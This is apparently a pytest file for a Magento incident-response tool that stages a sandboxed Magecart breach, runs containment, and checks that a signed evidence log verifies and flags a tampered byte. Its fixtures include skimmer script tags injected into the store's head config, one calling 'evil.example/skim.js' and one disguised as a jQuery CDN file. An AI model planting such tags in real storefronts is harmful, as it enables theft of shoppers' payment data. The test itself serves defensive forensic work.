"""One timeline: a containment run's journal and a capture in one verified evidence log."""

from __future__ import annotations

import subprocess
import sys
from collections import Counter
from typing import TYPE_CHECKING

from typer.testing import CliRunner

from magento_ir.cli.evidence import KEY_NAME, evidence_app
from magento_ir.containment._context import StoreConnection
from magento_ir.containment.actions import DisableCmsBlocks, SuspendPayments
from magento_ir.containment.incident import Incident
from magento_ir.evidence import SigningKey, read_records, verify
from magento_ir.sandbox import Sandbox, SandboxServer
from tests.evidence.collectors._support import ADMIN, BASE_URL, capture_sandbox, records_of

if TYPE_CHECKING:
    from pathlib import Path

SKIMMER = '<script src="https://evil.example/skim.js"></script>'
DRILL_SKIMMER = '<script src="https://cdn-jquery-min.example.org/jquery-3.7.1.min.js"></script>'


def stage_contain_capture(sandbox: Sandbox, journal: Path, key: SigningKey) -> str:
    """Stage a Magecart breach, contain it a little, then capture into the same log."""
    with sandbox.lock:
        sandbox.state.set_config("design/head/includes", SKIMMER)
    store = StoreConnection(base_url=BASE_URL, auth=ADMIN, transport=sandbox.transport())
    with Incident.open(journal, key=key, store=store, title="Skimmer in the head") as incident:
        # Whether checkout can prove the suspension is the containment's business, not ours.
        report = incident.run([DisableCmsBlocks([1]), SuspendPayments(["checkmo"])])
        assert [step.outcome is not None and step.outcome.ok for step in report.steps] == [
            True,
            True,
        ]
        incident_id = incident.id
    summary = capture_sandbox(sandbox, journal, key)
    assert summary.ok
    return incident_id


def test_one_log_holds_the_journal_and_the_capture_and_verifies(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    """Journal records, then capture records, in one chain that verifies with the signed key."""
    journal = tmp_path / "incident-journal.log"
    incident_id = stage_contain_capture(
        Sandbox(customers=20, orders=5, with_module=True), journal, signing_key
    )

    types = [record.type for record in read_records(journal)]
    counts = Counter(types)
    assert counts["incident.opened"] == 1
    assert counts["journal.result"] == 2
    assert counts["capture.customer"] == 32
    assert max(i for i, t in enumerate(types) if t.startswith("journal.")) < types.index(
        "capture.started"
    )
    report = verify(journal, signing_key.verifier())
    assert report.ok, report.summary()

    # The module's own action log, captured, names the same incident: the two sides agree.
    actions = records_of(journal, "capture.module_action")
    assert {a.payload["incident_id"] for a in actions} == {incident_id}
    assert {a.payload["action"] for a in actions} >= {"payments.suspend"}
    # The disabled block is captured inactive; the skimmer in the head is in the evidence.
    assert [b.payload["active"] for b in records_of(journal, "capture.cms_block")] == [False]
    page = records_of(journal, "capture.storefront_page")[0].payload
    assert "https://evil.example/skim.js" in page["head_html"]


def _stage(sandbox: Sandbox) -> None:
    """A drill-style Magecart breach: a skimmer in the <head> config beside the fixture's
    skimmer block (footer-promo), as an attacker with admin access leaves them."""
    with sandbox.lock:
        sandbox.state.set_config("design/head/includes", DRILL_SKIMMER)


def _first_seq(log: Path, record_type: str) -> int:
    return next(record.seq for record in read_records(log) if record.type == record_type)


def test_drill_capture_verifies_and_a_changed_byte_is_named(tmp_path: Path) -> None:
    """Done means: stage a breach, contain, capture over HTTP; `magento-ir evidence verify`
    passes, and with one byte changed fails naming the record (runner and real subprocess)."""
    key_file = tmp_path / "journal.key"
    key = SigningKey.generate(KEY_NAME)
    key.save(key_file)
    journal = tmp_path / "incident-journal.log"
    sandbox = Sandbox(customers=40, orders=30, with_module=True)
    with SandboxServer(sandbox) as server:
        _stage(sandbox)
        store = StoreConnection(base_url=server.base_url, auth=ADMIN)
        with Incident.open(journal, key=key, store=store, title="Drill: Magecart") as incident:
            assert incident.run([DisableCmsBlocks([1])]).ok
        env = {
            "MAGENTO_IR_BASE_URL": server.base_url,
            "MAGENTO_IR_USERNAME": "admin",
            "MAGENTO_IR_PASSWORD": sandbox.options.admin_password,
            "MAGENTO_IR_PROFILES_FILE": str(tmp_path / "profiles.toml"),
        }
        args = [str(journal), "--key", str(key_file)]
        captured = CliRunner().invoke(evidence_app, ["capture", *args], env=env)
        assert captured.exit_code == 0, captured.output

    verify_command = [
        sys.executable,
        "-c",
        "from magento_ir.cli import main; main()",
        "evidence",
        "verify",
        str(journal),
        "--verifier",
        str(key.verifier()),
    ]
    runner_args = ["verify", str(journal), "--verifier", str(key.verifier())]
    assert CliRunner().invoke(evidence_app, runner_args).exit_code == 0
    passed = subprocess.run(verify_command, capture_output=True, text=True, check=False)  # noqa: S603 - our own interpreter
    assert passed.returncode == 0, passed.stderr
    assert "OK:" in passed.stdout

    seq = _first_seq(journal, "capture.storefront_page")
    assert _first_seq(journal, "journal.result") < seq
    lines = journal.read_bytes().splitlines(keepends=True)
    # The skimmer's URL in the captured <head>, one letter changed: tampered evidence.
    assert b"jquery-3.7.1" in lines[seq]
    lines[seq] = lines[seq].replace(b"jquery-3.7.1", b"jQuery-3.7.1", 1)
    journal.write_bytes(b"".join(lines))

    failed = CliRunner().invoke(evidence_app, runner_args)
    assert failed.exit_code == 1
    assert f"record {seq}, line {seq + 1}" in failed.output
    refused = subprocess.run(verify_command, capture_output=True, text=True, check=False)  # noqa: S603 - our own interpreter
    assert refused.returncode == 1
    assert f"record {seq}, line {seq + 1}" in refused.stderr
